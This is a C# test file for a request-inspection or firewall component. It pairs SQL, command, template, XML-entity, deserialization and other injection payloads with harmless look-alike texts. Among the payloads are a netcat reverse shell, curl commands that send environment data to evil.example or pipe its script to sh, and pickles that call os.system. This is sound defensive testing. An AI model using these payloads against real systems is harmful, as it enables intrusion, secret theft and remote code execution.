using System.Text.Json;

namespace Pellicle.Inspection.Tests;

/// <summary>What is an attack in a parameter, and what looks like one and is not.</summary>
public sealed class DetectorTables
{
    private static InspectionVerdict Inspect(string text) => Inspector.Inspect(JsonSerializer.SerializeToUtf8Bytes(new { queryStringParameters = new { q = text } }));

    private static void IsAttack(string detector, string text)
    {
        var verdict = Inspect(text);
        verdict.Decision.ShouldBe(InspectionDecision.Block, text);
        verdict.Signals.ShouldContain(s => s.Detector == detector && s.Confidence >= 0.9, text);
    }

    private static void IsNotAttack(string text)
    {
        var verdict = Inspect(text);
        verdict.Decision.ShouldBe(InspectionDecision.Allow, $"{text}: {verdict.Signals.FirstOrDefault()}");
        verdict.Full.ShouldBeTrue();
    }

    [Theory]
    [InlineData("1 or 1=1")]
    [InlineData("' or 'a'='a")]
    [InlineData("admin'--")]
    [InlineData("x' union select password from users--")]
    [InlineData("1; drop table users")]
    [InlineData("1 and substring(version(),1,1)=5")]
    [InlineData("8) and (3)=(3")]
    [InlineData("' or x=x")]
    [InlineData("1' and sleep(5)#")]
    [InlineData("1<2 or 3>2 union all select 1")]
    [InlineData("1 and 3>2")]
    [InlineData("1 or @@version")]
    [InlineData("@x or @@version=1")]
    [InlineData("id` or `id`=`id")]
    [InlineData("1 or 1<=>1")]
    public void Sql_injection(string text) => IsAttack("sql-injection", text);

    [Theory]
    [InlineData("O'Brien")]
    [InlineData("the seat's cover and the chair's legs")]
    [InlineData("john+or@var.es")]
    [InlineData("CHRISTMAS STOCKING \"NOT\" STUFFER")]
    [InlineData("BAMBOO CHARCOAL SOAP 1 '#")]
    [InlineData("\"ATEAM\" AND AND \"GIFT CERTIFICATE\"")]
    [InlineData("\"red shoes\" AND \"size 9\"")]
    [InlineData("select one of the union members and order by phone")]
    [InlineData("Rock'n'roll or jazz = good music")]
    [InlineData("'alpha' => 1,")]
    [InlineData("run 'make' and select the new locale")]
    [InlineData("1 < 2 and 3 > 2")]
    [InlineData("union select")]
    [InlineData("union select committee")]
    [InlineData("the union select committee of 1832")]
    public void Not_sql_injection(string text) => IsNotAttack(text);

    [Theory]
    [InlineData("127.0.0.1; cat /etc/passwd")]
    [InlineData("localhost;id")]
    [InlineData("$(curl http://evil.example/x)")]
    [InlineData("a | nc -e /bin/sh 10.0.0.1 4444")]
    [InlineData("x && wget http://evil.example/a")]
    [InlineData("c'a't</etc/passwd; w\\hoami;")]
    [InlineData("() { ignored; }; echo vulnerable")]
    [InlineData("print(`echo A\necho $((1+1))`);")]
    [InlineData("a;{wget,http://files.example/x}")]
    [InlineData("x`id -u`; ls -la `")]
    [InlineData("x\n```\n; cat /etc/passwd")]
    [InlineData("* x; cat /etc/passwd")]
    [InlineData("Like `chown -R /`.")]
    [InlineData("x `curl -s example.com`")]
    [InlineData("cmd=cat /etc/hosts")]
    public void Command_injection(string text) => IsAttack("command-injection", text);

    [Theory]
    [InlineData("mammal;cat;ears")]
    [InlineData("Oxygen & Sleep Associates Inc")]
    [InlineData("text/html; charset=utf-8")]
    [InlineData("use `cat` to read the file and `ls` to list it")]
    [InlineData("| X86 | Windows/MingW | GCC | 13 |")]
    [InlineData("npm run build && node dist/index.js")]
    [InlineData("salt & pepper; time to find the best")]
    [InlineData("a=1&sort=2&find=3")]
    [InlineData("data:image/png;base64,iVBORw0KGgo=")]
    [InlineData("Use `rm -rf node_modules; npm i` to start over; see the manual.")]
    [InlineData("Dear team,\n\nplease run `systemctl restart nginx; tail -f /var/log/nginx/error.log` and tell me.")]
    [InlineData("```sh\ncurl https://example.com | sh\n```")]
    [InlineData("# Heading\n\n* item; two\n* `ls -la /etc` shows files\n")]
    [InlineData("> what does `cat /proc/cpuinfo; id` print?\n\n* the processor\n* who you are")]
    [InlineData("#!/bin/bash\nset -e\nnpm ci\nnpm test\n")]
    [InlineData("FROM node:20\nRUN apt-get update && apt-get install -y curl; rm -rf /var/lib/apt\n")]
    [InlineData("Like `chown -R`.")]
    [InlineData("cat /etc/hosts")]
    public void Not_command_injection(string text) => IsNotAttack(text);

    [Theory]
    [InlineData("../../etc/passwd")]
    [InlineData("..%2f..%2fetc%2fpasswd")]
    [InlineData("%252e%252e%252fetc%252fpasswd")]
    [InlineData("%c0%ae%c0%ae/boot.ini")]
    [InlineData("/var/task/app.py")]
    [InlineData("/var/task/config.json")]
    [InlineData("/var/task/../../etc/passwd.txt")]
    [InlineData("..\\..\\windows\\win.ini")]
    [InlineData(".%00./.%00./etc/issue")]
    [InlineData("/proc/self/environ")]
    [InlineData("0x2e0x2e%u2216boot.ini")]
    [InlineData("..%u2215..%u2215etc")]
    [InlineData("a..%uEFC8x")]
    [InlineData("../index.js")]
    [InlineData("../../../logo.png")]
    [InlineData("my file ../etc/passwd")]
    [InlineData("annual report/..\\..\\windows\\win.ini")]
    [InlineData("/var/task/data/config.js")]
    [InlineData("/var/task/data/../config.json")]
    public void Path_traversal(string text) => IsAttack("path-traversal", text);

    [Theory]
    [InlineData("docs/readme.md")]
    [InlineData("wait... what?")]
    [InlineData("100% sure.. really")]
    [InlineData("see /etc/hosts for the names of the machines")]
    [InlineData("Re: /etc/hosts and ../readme on C:\\temp")]
    [InlineData("the file /etc/passwd has the users; see ../docs/users.md")]
    [InlineData("/var/task/data/report.txt")]
    [InlineData("/var/task/assets/Logo 2.PNG")]
    [InlineData("https://shop.example/a/b/c?x=1&y=2&z=..")]
    [InlineData("file.tar..gz")]
    [InlineData("import x from '../lib/x'")]
    [InlineData("../relative/link.html")]
    [InlineData("../../assets/logo.png?v=2")]
    [InlineData("/var/task/data/prices.json")]
    [InlineData("/var/task/resources/regions.yaml")]
    [InlineData("/var/task/templates/letter.xml")]
    public void Not_path_traversal(string text) => IsNotAttack(text);

    [Theory]
    [InlineData("ssrf", "http://169.254.169.254/latest/meta-data/")]
    [InlineData("ssrf", "http://2130706433/")]
    [InlineData("ssrf", "gopher://127.0.0.1:6379/_x")]
    [InlineData("template-injection", "${jndi:ldap://evil.example/a}")]
    [InlineData("template-injection", "${j${x:-n}di:${y:-l}dap://evil.example/a}")]
    [InlineData("template-injection", "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://evil.example/a}")]
    [InlineData("template-injection", "${${env:A:-j}n${env:B:-d}i:x://evil.example/a}")]
    [InlineData("template-injection", "${script:javascript:1}")]
    [InlineData("template-injection", "<%= 7*7 %>")]
    [InlineData("template-injection", "<%= user %> and <%= ENV %>")]
    [InlineData("template-injection", "<%= process %>")]
    [InlineData("template-injection", "<%= user.name")]
    [InlineData("code-injection", "var P = importNamespace('System.Diagnostics'); P.Process.Start('touch')")]
    [InlineData("code-injection", "Environment.GetEnvironmentVariable(\"AWS_SECRET_ACCESS_KEY\")")]
    [InlineData("template-injection", "{{7*7}}")]
    [InlineData("xml-entity", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>")]
    [InlineData("xml-entity", "<!DOCTYPE x [<!ENTITY y \"z\"><!ENTITY w SYSTEM \"file:///etc/passwd\">]><x>&w;</x>")]
    [InlineData("xml-entity", "<!DOCTYPE x [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]><x>&b;</x>")]
    [InlineData("xml-entity", "<!DOCTYPE x [<!ENTITY % a \"z\">%a;]><x/>")]
    [InlineData("xml-entity", "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\"><x/>")]
    [InlineData("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC")]
    [InlineData("deserialization", "O:8:\"Evil\":1:{s:1:\"a\";i:1;}")]
    [InlineData("code-injection", "require('child_process').execSync('id')")]
    [InlineData("server-side-include", "<!--#exec cmd=\"ls\" -->")]
    [InlineData("header-injection", "x\r\nSet-Cookie: a=b")]
    [InlineData("header-injection", "%0d%0aSet-Cookie:crlf=injection")]
    [InlineData("ldap-injection", "*)(uid=*))(|(uid=*")]
    [InlineData("nosql-injection", "true, $where: '99 == 88'")]
    [InlineData("scanner", "sqlmap/1.7.4#stable (https://sqlmap.org)")]
    [InlineData("deserialization", "f: !!js/function 'function(){return process.pid}'")]
    [InlineData("deserialization", "!<tag:yaml.org,2002:js/function> 'function(){return 1}'")]
    [InlineData("deserialization", "{\"a\":\"_CRYO_FUNCTION_function () { return 1 }\"}")]
    [InlineData("template-injection", "{{range.constructor('return process.pid')()}}")]
    [InlineData("template-injection", "{% set f = range['const'+'ructor'] %}{{ f('return 1')() }}")]
    [InlineData("template-injection", "<% print(process.env.HOME) %>")]
    [InlineData("template-injection", "#{process.pid}")]
    [InlineData("template-injection", "{0.__init__.__globals__[SECRET]}")]
    [InlineData("template-injection", "Dear {user.__class__.__mro__[1].__subclasses__}")]
    [InlineData("prototype-pollution", "a[__proto__][admin]=true")]
    [InlineData("prototype-pollution", "a[constructor][prototype][admin]=true")]
    public void Other_attacks(string detector, string text) => IsAttack(detector, text);

    [Theory]
    // Pickles of every protocol that call os.system, a list before it; one that names a class of nobody's.
    [InlineData("gAJdcQAoSwFjcG9zaXgKc3lzdGVtCnEBWAIAAABpZHEChXEDUnEEZS4=")]
    [InlineData("gANdcQAoSwFjcG9zaXgKc3lzdGVtCnEBWAIAAABpZHEChXEDUnEEZS4=")]
    [InlineData("gASVIwAAAAAAAABdlChLAYwFcG9zaXiUjAZzeXN0ZW2Uk5SMAmlklIWUUpRlLg==")]
    [InlineData("gAWVIwAAAAAAAABdlChLAYwFcG9zaXiUjAZzeXN0ZW2Uk5SMAmlklIWUUpRlLg==")]
    // java.net.URL in a map (a look-up when it is read), and a class of the application.
    [InlineData("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7TAAEZmlsZXEAfgADTAAEaG9zdHEAfgADTAAIcHJvdG9jb2xxAH4AA0wAA3JlZnEAfgADeHCMUcAE/////3QAC2V4YW1wbGUuY29tdAABL3EAfgAFdAAEaHR0cHB4dAABeHg=")]
    [InlineData("rO0ABXNyAAFT333QgB3QHXUCAAFJAAFheHAAAAAA")]
    [InlineData("AAEAAAD/////AQAAAAAAAAAMAgAAAEZFdmlsLCBWZXJzaW9uPTEuMC4wLjAsIEN1bHR1cmU9bmV1dHJhbA==")]
    [InlineData("a:1:{i:0;O:8:\"Evil\":1:{s:1:\"a\";i:1;}}")]
    [InlineData("O:8:\"stdClass\":1:{s:1:\"a\";O:4:\"Evil\":0:{}}")]
    public void Serialised_objects(string text) => IsAttack("deserialization", text);

    [Theory]
    // {"name":"Anna","items":[1,2.5,None,True],"tags":{"a","b"}} with protocol 4; dates, decimals, ids and an ordered map with 5.
    [InlineData("gASVPwAAAAAAAAB9lCiMBG5hbWWUjARBbm5hlIwFaXRlbXOUXZQoSwFHQAQAAAAAAABOiGWMBHRhZ3OUj5QojAFilIwBYZSQdS4=")]
    [InlineData("gAWVlQAAAAAAAABdlCiMCGRhdGV0aW1llIwIZGF0ZXRpbWWUk5RDCgfoAQIAAAAAAACUhZRSlIwHZGVjaW1hbJSMB0RlY2ltYWyUk5SMAzEuNZSFlFKUjAR1dWlklIwEVVVJRJSTlCmBlH2UjANpbnSUSwVzYowLY29sbGVjdGlvbnOUjAtPcmRlcmVkRGljdJSTlClSlIwBYZRLAXNlLg==")]
    [InlineData("gAJ9cQAoWAEAAABhcQFdcQIoSwFHQAQAAAAAAABOiFgEAAAAdGV4dHEDZXUu")]
    // A map of texts, numbers, lists, dates and bytes.
    [InlineData("rO0ABXNyABdqYXZhLnV0aWwuTGlua2VkSGFzaE1hcDTATlwQbMD7AgABWgALYWNjZXNzT3JkZXJ4cgARamF2YS51dGlsLkhhc2hNYXAFB9rBwxZg0QMAAkYACmxvYWRGYWN0b3JJAAl0aHJlc2hvbGR4cD9AAAAAAAAMdwgAAAAQAAAABXQABG5hbWV0AARBbm5hdAABbnNyABFqYXZhLmxhbmcuSW50ZWdlchLioKT3gYc4AgABSQAFdmFsdWV4cgAQamF2YS5sYW5nLk51bWJlcoaslR0LlOCLAgAAeHAAAAAFdAAEbGlzdHNyABNqYXZhLnV0aWwuQXJyYXlMaXN0eIHSHZnHYZ0DAAFJAARzaXpleHAAAAACdwQAAAACdAABYXQAAWJ4dAAEd2hlbnNyAA5qYXZhLnV0aWwuRGF0ZWhqgQFLWXQZAwAAeHB3CAAAAAAAAAAAeHQABWJ5dGVzdXIAAltCrPMX+AYIVOACAAB4cAAAAAMBAgN4AA==")]
    [InlineData("a:2:{s:4:\"name\";s:4:\"Anna\";s:1:\"n\";i:5;}")]
    [InlineData("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}")]
    [InlineData("gAMSIsomeOtherBase64TextThatIsNoPickleAtAll0123456789")]
    public void Serialised_values(string text) => IsNotAttack(text);

    [Theory]
    [InlineData("http://localhost:3000/callback")]
    [InlineData("https://example.com:8443/a//b")]
    [InlineData("// 1: see the note below")]
    [InlineData("Hello {{name}}, your order ${id} is ready")]
    [InlineData("Hi <%= name %>, your order <%= order.id %> is on its way; <%=user.first_name-%>")]
    [InlineData("<!DOCTYPE html><html><body>hi</body></html>")]
    [InlineData("<!DOCTYPE html SYSTEM \"about:legacy-compat\">")]
    [InlineData("GIFT CARD: 10% off\nContent: a pair of socks")]
    [InlineData("Date: Mon\nSubject: hello\nContent-Type: text/plain\n\nhello")]
    [InlineData("(uid or cn) = name")]
    [InlineData("we pay in $ne and $gt are operators of the database, see the manual for how $where: is used in a longer article")]
    [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36")]
    [InlineData("AKIA rO0 is the name of a plane")]
    [InlineData("os.system(cmd) is deprecated, use subprocess.run instead")]
    [InlineData("const {exec} = require('child_process'); // how do I use it in a loop?")]
    [InlineData("the port is `${process.env.PORT}` by default")]
    [InlineData("{{process}} takes {{ order.constructor_name }}")]
    [InlineData("f\"{self.__class__.__name__}: {self.__dict__}\"")]
    [InlineData("{ the dunder .__globals__ and { others }")]
    public void Other_texts(string text) => IsNotAttack(text);

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("\"onmouseover=\"alert(1)")]
    [InlineData("<a href=\"&#106;avascript:x\">")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<b onsecuritypolicyviolation=f(1)>")]
    public void Script_is_reported_and_left_to_the_policy(string text)
    {
        var verdict = Inspect(text);
        verdict.Decision.ShouldBe(InspectionDecision.Allow);
        verdict.Signals.ShouldContain(s => s.Detector == "xss" && s.Confidence >= 0.7);
    }

    /// <summary>Sentences, listings and configuration that hold what a parameter would be stopped for.</summary>
    [Theory]
    [InlineData("Run ls | grep x to see whether the file is there.")]
    [InlineData("To install it, run curl -fsSL https://get.example.com/install.sh | sh and follow the steps.")]
    [InlineData("Install with `curl -fsSL https://get.example.com/install.sh | sh`.")]
    [InlineData("When the build fails with exit code 1, docker logs web | tail -n 50 shows the reason.")]
    [InlineData("I typed id; whoami; and uname -a in the terminal of the course")]
    [InlineData("ls -la | grep txt")]
    [InlineData("run: npm test | grep -v skipped")]
    [InlineData("docker run --rm -it ubuntu bash -c \"apt update && ls\"")]
    [InlineData("SHELL=/bin/sh\n0 5 * * * tar czf /backup.tgz /data; find /backup -mtime +7 -delete\n")]
    [InlineData("steps:\n  - run: cat log.txt; grep -c ERROR /tmp/log.txt\n  - run: make\n")]
    [InlineData("I was in a hurry; find 3 errors please")]
    [InlineData("The regex ^(a|b);cat$ matches")]
    [InlineData("Overview of changes between 1.0.2 and 1.0.3\n=============================================\n- Compiler warnings")]
    [InlineData("For the first pair of `a` and `b` in `str`, return an\narray with indexes: `[ <a index>, <b index> ]`.")]
    [InlineData("### `start` and `end`")]
    [InlineData("now reports the architecture (via `openblas_get_corename`) and BLIS (via\n  `bli_arch_query_id` and `bli_arch_string`).")]
    [InlineData("Thanks to @chkimes and @Uzlopak)")]
    [InlineData("%s debe estar en el rango %u..%u")]
    [InlineData("Some corrections were made to the tutorial (@service and @method take a\n  parameter dbus_interface, not just interface; fd.o #11209).")]
    [InlineData("e.g.: returning status 106 and \"restart stop\" in stdout (without\nthe quotes) will cause invoke-rc.d to attempt action \"restart\",\nand then only if \"restart\" failed, attempt action \"stop\".")]
    [InlineData("\t$(MAKE) prefix=debian/tmp/usr install")]
    [InlineData("HOST=${HOST:-0.0.0.0}\nPORT=${PORT:-8080}\n")]
    [InlineData("ports:\n  - ${BIND:-${HOST:-127.0.0.1}}:${PORT:-80}\n")]
    [InlineData("Use `${a}` and `${b}`:\n\n| name | value |\n|:----:|:-----|\n| `${c}` | 1 |\n")]
    [InlineData("<?php echo \"Hello World\"; ?>")]
    [InlineData("<?php\n$name = \"Anna\";\necho $name;\n?>")]
    [InlineData("title LIKE 'a%' OR title LIKE 'b%'")]
    [InlineData("tags CONTAINS 'urgent' AND status = 'open'")]
    [InlineData("The instance metadata lives at http://169.254.169.254/latest/meta-data/ on every machine.")]
    [InlineData("Error: connect ECONNREFUSED 169.254.169.254:80 while fetching credentials")]
    [InlineData("see http://169.254.169.254/latest/meta-data/ in the docs")]
    [InlineData("The classic test is ' OR '1'='1 which ends the string.")]
    [InlineData("How do I write UNION SELECT in SQLite? I tried select a from t union select b from u.")]
    [InlineData("Bobby'); DROP TABLE Students;-- is the joke from xkcd about school databases")]
    [InlineData("Bitte auf dem Server `cat /etc/hosts; ping -c1 db` ausführen und mir das Ergebnis schicken, es ist für die Umstellung.")]
    public void Texts_about_commands_and_queries_are_reported_at_most(string text) => IsNotAttack(text);

    /// <summary>Words before it make no sentence of what ends the text.</summary>
    [Theory]
    [InlineData("command-injection", "report for Anna Maria from accounting department; cat /etc/passwd")]
    [InlineData("command-injection", "hello world this is my comment; curl http://evil.example/?x=$(env|base64)")]
    [InlineData("command-injection", "please print this report $(cat /etc/passwd)")]
    [InlineData("command-injection", "the report;curl http://evil.example/a;echo this is a test of the command injection")]
    [InlineData("command-injection", "env | grep AWS")]
    [InlineData("command-injection", "ls | grep x; cat /etc/shadow")]
    [InlineData("command-injection", "curl http://evil.example/a | sh")]
    [InlineData("command-injection", "Anna Maria `cat /etc/passwd`")]
    [InlineData("sql-injection", "My name is Bob and I like cats'; DROP TABLE users; --")]
    [InlineData("sql-injection", "My name is Bob and I like cats'; DROP TABLE users")]
    [InlineData("sql-injection", "hello and welcome to the party ' OR 1=1 --")]
    [InlineData("sql-injection", "CASE WHEN BINARY TRUE THEN TRUE END IS UNKNOWN FOR UPDATE UNION SELECT MATTRESSES")]
    [InlineData("code-injection", "<?php system($_GET['c']); ?>")]
    [InlineData("code-injection", "<?=`id`?>")]
    [InlineData("ssrf", "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/")]
    public void Attacks_that_end_a_text(string detector, string text) => IsAttack(detector, text);

    [Fact]
    public void A_long_document_that_quotes_attacks_is_reported_and_not_blocked()
    {
        var article = string.Join('\n', Enumerable.Repeat("An attacker sends '; cat /etc/passwd' or ' or 1=1-- and reads the file.", 60));
        var verdict = Inspect(article);
        verdict.Decision.ShouldBe(InspectionDecision.Allow);
        verdict.Signals.ShouldNotBeEmpty();
    }
}
